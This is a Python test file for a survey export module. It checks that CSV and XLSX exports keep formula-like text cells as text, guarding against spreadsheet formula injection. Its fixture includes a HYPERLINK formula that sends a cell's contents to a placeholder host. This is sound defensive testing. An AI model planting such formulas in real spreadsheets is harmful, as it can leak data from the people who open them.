"""Spreadsheets people open (surveys.report.exports): a text cell that a spreadsheet would read
as a formula (one starting with =, +, -, @, a tab or a carriage return: survey texts, option
labels, unit and place names are written by administrators and HR, and the public downloads
the results) stays text, in CSV and in XLSX, as the audit log's CSV already does; numbers stay
numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from surveys.report import exports

FORMULAS = ['=HYPERLINK("http://example.com/?x="&A1,"apua")', "+358401234567", "-1+2",
            "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def sheet() -> exports.Sheet:
    rows = [[text, "Kysymys", "Vastaus", 3, 12.5, 10, -12.5, None] for text in FORMULAS]
    rows.append(["Pirkanmaa", "Kysymys", "", 3, None, 10, 2.25, -40.0])
    return exports.Sheet(["Alue", "Kysymys", "Vastaus", "Määrä", "Osuus", "n", "Keskiarvo",
                          "NPS"], rows, [("Kysely", "=1+1"), ("Lähde", "Palaute")])


def test_a_formula_in_a_text_cell_stays_text_in_csv():
    text = exports.to_csv(sheet(), "fi").decode("utf-8").lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
    assert [r[0] for r in rows] == [*("'" + f for f in FORMULAS), "Pirkanmaa"]
    # Numbers are numbers, negative ones too (a decimal comma in Finnish).
    assert rows[0][3:7] == ["3", "12,5", "10", "-12,5"] and rows[-1][7] == "-40"


def test_a_formula_in_a_text_cell_stays_text_in_xlsx():
    book = load_workbook(io.BytesIO(exports.to_xlsx(sheet(), {"data": "Tulokset",
                                                              "about": "Tietoja"})))
    data, about = book.worksheets
    cells = [row[0] for row in data.iter_rows(min_row=2)]
    # (XML stores a carriage return as a line feed.)
    assert [c.value for c in cells] == [*(f.replace("\r", "\n") for f in FORMULAS),
                                        "Pirkanmaa"]
    assert {c.data_type for c in cells} == {"s"}
    assert data.cell(row=2, column=7).value == -12.5 and data.cell(row=2, column=7).data_type == "n"
    assert about.cell(row=1, column=2).value == "=1+1"
    assert about.cell(row=1, column=2).data_type == "s"


def test_a_number_question_is_exported_in_its_bands():
    """Found by review: the rows of a `number` question were one per whole number (the form's
    options) while its published counts are per band, so every count and share was empty.
    They are the bands the results page shows."""
    definition = {"questions": [{"id": "ika", "type": "number", "text": {"fi": "Ikä"},
                                 "min": 15, "max": 39}]}
    counts = {"15–19": None, "20–29": 6, "30–39": 4}
    doc = {"scope": {"name": "Pirkanmaa"}, "respondents": 10,
           "questions": {"ika": {"type": "number", "n": 10, "counts": counts, "mean": 28.5,
                                 "nps": None, "suppressed": False}}}
    rows = exports.rows(definition, [doc], "fi", {"respondents": "Vastaajat"})
    answers = {r[2]: (r[3], r[4]) for r in rows if r[1] == "Ikä" and r[2]}
    assert answers == {"15–19": (None, None), "20–29": (6, 60.0), "30–39": (4, 40.0)}
